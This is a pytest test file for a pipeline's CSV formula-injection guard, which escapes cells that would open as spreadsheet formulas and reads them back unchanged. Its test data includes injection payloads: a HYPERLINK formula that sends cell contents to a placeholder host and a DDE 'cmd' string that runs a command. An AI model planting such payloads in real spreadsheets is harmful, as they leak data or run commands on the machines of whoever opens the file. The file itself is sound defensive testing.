"""CSV that a spreadsheet opens: nothing in it is a formula, and what we read of our own is the text as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from command_line import Run, jsonl, write
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline import formulas
from pipeline.coding import forms
from pipeline.reading import documents
from pipeline.records import Task

FORMULAS = ['=HYPERLINK("http://x?"&A1,"ok")', "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "'=1", "''@x"]
PLAIN = ["", "He denied it.", "'No,' he said.", "'", "5 - 3 = 2", " =1", "a=1", "“=1”"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert formulas.guard(text) == "'" + text and formulas.unguard("'" + text) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays(text: str) -> None:
    assert formulas.guard(text) == text == formulas.unguard(text)


@given(text=st.text() | st.text(alphabet="'=+-@\t\r a"))
@example(text="'")
def test_what_is_guarded_begins_no_formula_and_comes_back(text: str) -> None:
    guarded = formulas.guard(text)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert formulas.unguard(guarded) == text


def test_classified_sentences_are_guarded_and_read_back(run: Run, tmp_path: Path) -> None:
    texts = [*FORMULAS, *PLAIN]
    write(tmp_path / "rows.jsonl", jsonl([{"text": text, "id": text} for text in texts]))
    assert run("classify", "--input", "rows.jsonl", "--output", "out.csv").code == 0
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert [text for _, text in documents.read_texts(tmp_path / "out.csv")] == texts
    again = run("classify", "--input", "out.csv", "--format", "jsonl").rows
    assert [(row["id"], row["text"]) for row in again] == [(text, text) for text in texts]


def test_they_are_as_they_are_where_that_is_asked_for(run: Run) -> None:
    done = run("classify", "=1+1", "--format", "csv-plain")
    assert next(csv.DictReader(io.StringIO(done.out)))["text"] == "=1+1"
    assert next(csv.DictReader(io.StringIO(run("classify", "=1+1", "--format", "csv").out)))["text"] == "'=1+1"


def test_what_is_to_be_coded_comes_back_as_it_was(tmp_path: Path) -> None:
    tasks = [Task("=d.txt", 0, 5, text, "denial") for text in FORMULAS]
    (tmp_path / "todo.csv").write_text(forms.to_csv(tasks), "utf-8", newline="")
    found = forms.read(tmp_path / "todo.csv").annotations
    assert [(annotation.document, annotation.text) for annotation in found] == [("=d.txt", text) for text in FORMULAS]


def test_tables_of_others_are_read_as_they_are(tmp_path: Path) -> None:
    (tmp_path / "theirs.csv").write_text("id,text\n1,'@mayor denied it\n2,'=1\n")
    assert [text for _, text in documents.read_texts(tmp_path / "theirs.csv")] == ["'@mayor denied it", "'=1"]


@pytest.mark.parametrize("columns", [formulas.CLASSIFIED, Task._fields, formulas.QUEUE, formulas.REJECTS])
def test_our_tables_are_known_by_their_columns(columns: tuple[str, ...]) -> None:
    assert formulas.is_guarded(columns) and formulas.is_guarded([*columns, "added"])
    assert not formulas.is_guarded(columns[:-1]) and not formulas.is_guarded(columns[1:])
